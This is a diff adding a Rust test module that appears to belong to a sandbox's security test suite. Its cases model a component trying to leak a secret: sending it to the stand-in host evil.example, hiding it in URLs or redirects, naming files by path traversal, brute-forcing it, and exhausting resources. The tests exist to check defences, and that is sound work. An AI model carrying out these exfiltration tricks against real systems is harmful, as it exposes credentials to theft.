@@ -1,0 +1,155 @@
+//! Components that want to read a secret, or to use it where it may not go.
+
+use std::sync::Arc;
+
+use serde_json::json;
+use weft_engine::Accounts;
+use weft_sandbox_tests::{Answer, Seen, Server, echo};
+
+use crate::arena::{Arena, SECRET, account};
+use crate::attack::{Attack, against, leaked, run_against, saw, telling};
+
+pub(super) fn attacks() -> Vec<Attack> {
+    let aim = |name, tries, url: &str, answer| against(name, tries, ("aim", json!({ "text": url })), echoes, answer);
+    let step = Attack::step;
+    vec![
+        aim("secret/to-other-host", "aims its marker at a host that nobody granted", "https://evil.example/", "?"),
+        aim("secret/in-path", "puts its marker into the path", "/MARKER", "?"),
+        aim("secret/in-host", "puts its marker into the host", "http://MARKER.evil.example/", "?"),
+        aim("secret/in-query-of-url", "puts its marker into the query of the URL", "/ok?key=MARKER", "?"),
+        against(
+            "secret/in-text",
+            "puts its marker into a body that the host doesn't look into",
+            ("aim-in-text", json!({})),
+            echoes,
+            "?",
+        ),
+        against(
+            "secret/across-redirect",
+            "has its secret carried to another host by a redirect",
+            ("aim", json!({ "text": "/away" })),
+            echoes,
+            "?",
+        ),
+        Attack::new("secret/echo", "reads its secret back from a server that gives everything back", echo_back, "?"),
+        Attack::new("secret/look-alike", "has a server send text that looks like a marker", look_alike, "?"),
+        step(
+            "secret/other-name",
+            "asks for a secret by a name that isn't its connection's",
+            "name",
+            json!({ "text": "password" }),
+            "",
+            "?",
+        ),
+        step(
+            "secret/path-as-name",
+            "asks for a secret by a path",
+            "name",
+            json!({ "text": "../other/secret_key" }),
+            "",
+            "?",
+        ),
+        Attack::new("secret/of-other-connection", "uses the marker of another connection", other_connection, "?"),
+        step(
+            "secret/compare",
+            "compares the hash of a guess with that of the secret",
+            "compare",
+            json!({ "text": SECRET }),
+            "",
+            "?",
+        ),
+        step("secret/guess-by-hash", "has a million guesses hashed", "guess", json!({ "amount": 1_000_000 }), "", "?"),
+        Attack::new(
+            "secret/guess-by-echo",
+            "writes guesses into a request, to see which one comes back hidden",
+            guess_by_echo,
+            "?",
+        ),
+        step("secret/hash-much", "has 16 MB hashed, a thousand times", "hash-much", json!({ "amount": 16 }), "", "?"),
+        step(
+            "secret/many-basics",
+            "makes 100,000 texts that the host has to look for",
+            "many-basics",
+            json!({ "amount": 100_000 }),
+            "",
+            "?",
+        ),
+        against(
+            "secret/seal-many",
+            "seals 1,000 values of one answer",
+            ("seal-many", json!({ "amount": 1_000 })),
+            tokens,
+            "?",
+        ),
+        against("secret/many-tokens", "gets token after token", ("many-tokens", json!({ "amount": 100 })), tokens, "?"),
+    ]
+}
+
+fn echoes(seen: &Seen) -> Answer {
+    if seen.path == "/away" { Answer::redirect(307, "https://evil.example/") } else { echo::answer(200, seen) }
+}
+
+/// Other tokens every time.
+fn tokens(seen: &Seen) -> Answer {
+    let number = seen.at.elapsed().as_nanos() ^ u128::from(std::process::id());
+    let unique = format!("{:?}-{number}", seen.at);
+    let tokens: Vec<String> = (0..1_000).map(|index| format!("token-{index}-{unique}")).collect();
+    Answer::new(200, json!(tokens).to_string())
+}
+
+async fn echo_back(arena: Arc<Arena>) -> String {
+    let server = Server::start(echoes).await;
+    let source = telling("echo", &json!({}), "");
+    let answer = run_against(&arena, &source, &server.base_url).await;
+    // `run_against` says so if the secret is in any event; what the component got is among them.
+    let got = if answer.starts_with("finished") { "finished, without the secret" } else { answer.as_str() };
+    format!("{got} | {}", saw(&server.seen()))
+}
+
+/// The server gives what a marker would look like if it knew more than it does.
+async fn look_alike(arena: Arc<Arena>) -> String {
+    let imitate = |seen: &Seen| match seen.path.as_str() {
+        "/data" => Answer::new(200, format!("sealed-secret_key-{}", "0123456789abcdef".repeat(2))),
+        _ => Answer::ok(),
+    };
+    let server = Server::start(imitate).await;
+    let answer = run_against(&arena, &telling("pass-on", &json!({}), ""), &server.base_url).await;
+    let sent = server.seen().iter().map(|seen| seen.parameter("text")).collect::<String>();
+    format!("{answer} | the server got: {sent}")
+}
+
+/// One account gives its marker away, another sends it to its own server.
+async fn other_connection(arena: Arc<Arena>) -> String {
+    const SOURCE: &str = "
+weft: 1
+name: attack
+connections: { one: hostile, other: hostile }
+steps:
+  - { id: give, uses: hostile/give-away, connection: one }
+  - { id: attack, uses: hostile/send-text, connection: other, with: { text: \"${ .give.output }\" } }
+";
+    let plan = match arena.plan(SOURCE).await {
+        Ok(plan) => plan,
+        Err(answer) => return answer,
+    };
+    let server = Server::start(echoes).await;
+    let one = account("hostile", "http://127.0.0.1:9", true, &[]);
+    let other = account("hostile", &server.base_url, true, &[]);
+    let accounts = Accounts::from([("one".to_owned(), one), ("other".to_owned(), other)]);
+    let ran = arena.run(&plan, &accounts, &[]).await;
+    let place = leaked(&arena, &ran.events).unwrap_or("nowhere");
+    format!("{}, the secret is {place} | {}", ran.answer, saw(&server.seen()))
+}
+
+async fn guess_by_echo(arena: Arc<Arena>) -> String {
+    let guesses: Vec<String> = (0..1_000).map(|number| format!("guess-{number}")).chain([SECRET.to_owned()]).collect();
+    let source = telling("send-text", &json!({ "text": guesses.join(" ") }), "");
+    let server = Server::start(echoes).await;
+    let plan = match arena.plan(&source).await {
+        Ok(plan) => plan,
+        Err(answer) => return answer,
+    };
+    let victim = account("hostile", &server.base_url, true, &[]);
+    let ran = arena.run(&plan, &Accounts::from([("victim".to_owned(), victim)]), &[]).await;
+    format!("{} | {}", ran.answer, saw(&server.seen()))
+}
